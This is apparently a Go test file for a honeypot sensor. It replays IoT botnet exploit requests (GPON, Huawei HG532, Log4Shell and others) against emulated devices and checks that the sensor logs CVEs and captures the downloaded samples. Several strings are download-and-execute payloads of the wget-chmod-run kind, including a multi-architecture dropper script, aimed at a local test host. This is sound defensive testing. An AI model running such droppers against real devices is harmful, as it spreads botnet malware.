package http_test

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kansoku/kansoku/internal/event"
	"github.com/kansoku/kansoku/internal/intel"
	"github.com/kansoku/kansoku/internal/sensortest"
)

// replays says, per signature, the profile the request goes to, what the
// payload's base64 layer ({B64}) holds and which files of the malware host
// must end up captured.
var replays = map[string]struct {
	profile string
	b64     string
	fetched []string
}{
	"gpon-diag-rce":             {"ont-gpon", "", []string{"/gpon.sh", "/bins/gpon.mips", "/bins/gpon.mpsl", "/bins/gpon.arm7"}},
	"huawei-hg532-upnp":         {"upnp-hg532", "", []string{"/okiru.mips"}},
	"realtek-miniigd-upnp":      {"upnp-miniigd", "", []string{"/rt.mips"}},
	"dlink-hnap-soapaction":     {"router-dlink", "", []string{"/hnap.mips"}},
	"dlink-dsl2750b-login-cli":  {"router-dlink", "", []string{"/dsl.mips"}},
	"netgear-dgn1000-setup-cgi": {"router-dlink", "", []string{"/ng.mips"}},
	"netgear-r7000-cgi-bin":     {"router-dlink", "", []string{"/r7.arm7"}},
	"jaws-dvr-shell":            {"dvr-jaws", "", []string{"/jaws.arm7"}},
	"zyxel-nas-weblogin":        {"nas-zyxel", "", []string{"/zy.arm"}},
	"zyxel-p660hn-viewlog":      {"cpe-tr069", "", []string{"/p660.mips"}},
	"thinkphp5-invokefunction":  {"router-dlink", "", []string{"/tp5.x86"}},
	"draytek-vigor-keypath":     {"router-dlink", "", []string{"/dray.arm7"}},
	"hikvision-weblanguage":     {"dvr-jaws", "", []string{"/hik.arm7"}},
	"tplink-archer-locale":      {"router-dlink", "", []string{"/tpl.mips"}},
	"linksys-tmunblock":         {"router-dlink", "", []string{"/lx.mips"}},
	"vacron-nvr-board-cgi":      {"dvr-jaws", "", []string{"/vac.arm7"}},
	"avtech-brightness":         {"dvr-jaws", "cd /tmp; wget http://{SRV}/avt.arm7 -O a; chmod 777 a; ./a avtech", []string{"/avt.arm7"}},
	"avtech-cloudsetup-exefile": {"dvr-jaws", "", []string{"/cs.arm"}},
	"eir-d1000-tr064":           {"cpe-tr069", "", []string{"/tr064.mips"}},
	"tenda-setusbunload":        {"router-dlink", "", []string{"/tenda.mips"}},
	"totolink-cstecgi":          {"router-dlink", "", []string{"/toto.mips"}},
	"lilin-dvr-ntp-ftp":         {"dvr-jaws", "", []string{"/lilin.arm7"}},
	// Spring4Shell writes a JSP web shell: nothing to download.
	"spring4shell": {"router-dlink", "", nil},
	"log4shell":    {"router-dlink", "wget http://{SRV}/l4j.x86 -O /tmp/l;sh /tmp/l", []string{"/l4j.x86"}},
}

// TestExploitReplays sends, with curl, the request of every HTTP signature
// as botnets send it (payload layers included) and follows it to the end:
// http.request names the signature and its CVEs, the URL in the injected
// command is fetched from the test's malware host (and, for a dropper
// script, every architecture it names), and the sample is stored under
// its SHA-256 with a sample.captured event (what queues it for analysis).
func TestExploitReplays(t *testing.T) {
	needCurl(t)
	set, err := intel.LoadExploits()
	if err != nil {
		t.Fatal(err)
	}
	srv := newBinServer(t)
	srv.script("/gpon.sh", "#!/bin/sh\ncd /tmp || cd /var/run\nfor a in mips mpsl arm7; do wget http://"+srv.host()+"/bins/gpon.$a -O g; chmod 777 g; ./g gpon.$a; done\nrm -f $0\n")
	tftpPort := tftpServer(t)
	instances := map[string]*sensortest.Instance{}
	parent := t // the instances serve every subtest
	for _, sig := range set.Exploits() {
		if sig.Protocol != intel.ProtoHTTP {
			continue // raw TCP/UDP signatures belong to other sensors
		}
		if sig.Target.Class == "vpn" {
			continue // SSL-VPN appliances: internal/sensor/vpn replays them
		}
		rp, ok := replays[sig.ID]
		if !ok {
			t.Errorf("signature %s has no replay", sig.ID)
			continue
		}
		t.Run(sig.ID, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join("testdata", "replays", sig.ID+".http"))
			if err != nil {
				t.Fatal(err)
			}
			b64 := base64.StdEncoding.EncodeToString([]byte(strings.ReplaceAll(rp.b64, "{SRV}", srv.host())))
			data = []byte(strings.NewReplacer("{SRV}", srv.host(), "{TFTP}", tftpPort, "{B64}", b64).Replace(string(data)))
			in := instances[rp.profile]
			if in == nil {
				in = start(parent, "profile: "+rp.profile+"\ntiming: false\n")
				instances[rp.profile] = in
			}
			curl(t, in.Addr, parseRaw(t, data))
			evs := in.Recorder.WaitFor(t, sig.ID, sensortest.Wait, func(evs []*event.Event) bool {
				if sensortest.Count(evs, "http.request", func(e *event.Event) bool { return has(e, "signature_ids", sig.ID) }) == 0 {
					return false
				}
				// Another replay on the same instance may have captured the
				// same file already: wait for this fetch's own download.ok too.
				for _, p := range rp.fetched {
					if sensortest.Count(evs, "sample.captured", func(e *event.Event) bool { return e.Str("sha256") == shaOf(srv, p) }) == 0 {
						return false
					}
					u := fetchURL(srv, tftpPort, p)
					if sensortest.Count(evs, "download.ok", func(e *event.Event) bool { return e.Str("url") == u }) == 0 {
						return false
					}
				}
				return true
			})
			for _, e := range evs {
				if e.Kind != "http.request" || !has(e, "signature_ids", sig.ID) {
					continue
				}
				for _, cve := range sig.CVEs {
					if !has(e, "cves", cve) {
						t.Errorf("http.request lacks %s: %v", cve, e.Data["cves"])
					}
				}
				if sig.Disclosed != "" && !strings.Contains(mustJSON(e.Data["signatures"]), sig.Disclosed) {
					t.Errorf("http.request lacks the disclosure date %s", sig.Disclosed)
				}
			}
			for _, p := range rp.fetched {
				u := fetchURL(srv, tftpPort, p)
				if sensortest.Count(evs, "download.ok", func(e *event.Event) bool { return e.Str("url") == u }) == 0 {
					t.Errorf("no download.ok for %s", u)
				}
				if got := in.Recorder.Samples()[shaOf(srv, p)]; got == nil {
					t.Errorf("sample of %s not stored", p)
				}
			}
		})
	}
}

// shaOf is the SHA-256 of what the malware host serves at path.
func shaOf(b *binServer, path string) string {
	b.mu.Lock()
	s, ok := b.scripts[path]
	b.mu.Unlock()
	if ok {
		return sha([]byte(s))
	}
	return sha(fakeELF(path))
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// fetchURL is the URL a replay's payload makes the sensor fetch for path p.
func fetchURL(srv *binServer, tftpPort, p string) string {
	if strings.HasPrefix(p, "/tr064") {
		return "tftp://127.0.0.1:" + tftpPort + p
	}
	return "http://" + srv.host() + p
}
